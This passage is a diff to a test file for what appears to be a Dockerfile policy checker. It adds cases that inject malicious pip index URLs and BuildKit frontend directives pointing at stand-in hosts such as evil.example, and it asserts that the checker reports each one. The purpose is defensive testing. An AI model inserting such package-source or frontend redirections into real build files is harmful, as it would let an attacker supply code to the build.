@@ -133,6 +133,14 @@ describe('enforce', () => {
       [text.replaceAll('m.example.com', 'evil.io'), 'evil.io/library'],
       [text.replace(/^CMD /m, 'USER root\nCMD '), 'runs as root'],
       [text.replace(/^CMD /m, 'RUN pip install -i https://evil.example/simple x\nCMD '), 'https://evil.example/simple'],
+      [text.replace(/^CMD /m, 'RUN pip config set global.index-url https://evil.example/a\nCMD '), 'evil.example/a'],
+      [
+        text.replace(/^CMD /m, 'RUN echo "index-url = https://evil.example/b" >> /etc/pip.conf\nCMD '),
+        'evil.example/b',
+      ],
+      [text.replace(/^CMD /m, 'ARG X\nRUN pip install --extra-index-url $X x\nCMD '), 'takes packages from $X'],
+      [`# syntax=evil.example/frontend:1\n${text}`, 'is built by the frontend evil.example/frontend:1'],
+      [`# escape=\\\n#Syntax = evil.example/f:2\n${text}`, 'is built by the frontend evil.example/f:2'],
     ] as const) {
       await writeFile(path, edited);
       const ran = await cli(['check', dir, '--json']);
